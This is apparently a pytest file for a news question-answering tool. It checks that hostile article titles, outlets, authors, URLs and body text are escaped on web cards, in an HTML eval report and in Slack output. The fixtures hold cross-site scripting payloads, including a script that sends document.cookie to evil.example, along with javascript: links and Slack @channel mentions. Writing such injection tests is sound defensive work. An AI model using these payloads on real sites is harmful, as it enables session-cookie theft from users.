"""Article text and metadata are untrusted: an article whose title, outlet, author and URL carry
markup and script is shown as text on the web cards and in the HTML eval report, and Slack mentions
in an article never ping anyone. The article is ingested and answered for real; only the rendering
of that real answer is inspected."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest

from tests.conftest import make_indexer
from tests.helpers import answerer_for, run_cli

TITLE = '<script>alert("title")</script>Harbour <img src=x onerror=alert(1)> cranes'
OUTLET = '<b onmouseover="alert(2)">Quay Gazette</b>'
AUTHOR = "<a href='javascript:alert(3)'>Mo</a>"
URL = "javascript:alert(document.cookie)"
BODY = ("The port authority ordered 14 new container cranes for the east quay <!channel> on Tuesday. "
        "<@U024BE7LH> said the first cranes arrive in spring, and <!here> the order is worth 90 million dollars. "
        "Dockworkers welcomed the order <script>fetch('//evil.example/'+document.cookie)</script> at a meeting.")
QUESTION = "How many container cranes did the port authority order?"


class _Tags(HTMLParser):
    """Every element and attribute a browser would build from a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def dangers(html: str) -> list[str]:
    """What in html would run: script/img/iframe elements, on* handlers, javascript: links."""
    parser = _Tags()
    parser.feed(html)
    bad = []
    for tag, attrs in parser.found:
        if tag in ("script", "img", "iframe", "object", "embed"):
            bad.append(tag)
        bad += [f"{tag} {name}" for name, value in attrs if name.startswith("on")
                or (value or "").strip().lower().startswith("javascript:")]
    return bad


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, embeddings):
    """Settings whose index holds the hostile article, plus its JSONL export for `newsqa eval`."""
    from ingest.load import load_sources
    from qa.config import Settings

    folder = tmp_path_factory.mktemp("hostile")
    export = folder / "export.jsonl"
    export.write_text(json.dumps({"title": TITLE, "outlet": OUTLET, "author": AUTHOR, "url": URL,
                                  "published_at": "2026-03-03", "text": BODY}) + "\n")
    settings = Settings(_env_file=None, data_dir=folder / "data")
    report = make_indexer(settings, embeddings).ingest(load_sources([str(export)]))
    assert report.added == 1, report.skipped
    return settings, export


@pytest.fixture(scope="module")
def answer(hostile, embeddings):
    settings, _ = hostile
    answer = answerer_for(settings, embeddings).answer(QUESTION)
    assert "14" in answer.text and answer.citations, answer.text
    c = answer.citations[0]
    assert (c.title, c.outlet, c.author) != ("", "", "")  # the hostile metadata reached the renderers
    return answer


def test_web_cards_show_hostile_metadata_as_text(answer):
    from ui.web.render import answer_markdown, sources_panel

    panel = sources_panel(answer, 0)
    assert dangers(panel) == []
    assert "href=\"javascript" not in panel  # a non-web URL is never a link
    assert "&lt;script&gt;" in panel and "Quay Gazette" in panel and "onerror=alert(1)" in panel  # as text
    assert dangers(answer_markdown(answer, 0)) == []


def test_the_html_eval_report_escapes_hostile_articles(hostile, tmp_path):
    settings, export = hostile
    questions = tmp_path / "questions.jsonl"
    questions.write_text(json.dumps({"id": "cranes <script>x</script>", "type": "number", "question": QUESTION,
                                     "answers": ["14"]}) + "\n")
    out = tmp_path / "report"
    result = run_cli(settings, "eval", str(questions), "--corpus", str(export), "--out", str(out))
    assert result.exit_code == 0, result.output
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&quot;title&quot;)" in html or "&lt;script&gt;alert(\"title\")" in html
    assert dangers(html) == []


def test_slack_never_pings_from_article_text_or_links_a_script_url(answer):
    from ui.slack.render import answer_messages

    dumped = json.dumps(answer_messages(answer, "value"))
    for mention in ("<!channel>", "<!here>", "<@U024BE7LH>", "<!everyone>"):
        assert mention not in dumped
    assert "&lt;!channel&gt;" in dumped or "&lt;@U024BE7LH&gt;" in dumped  # shown, as text
    assert "<javascript:" not in dumped and "|javascript" not in dumped
    assert "<script" not in dumped
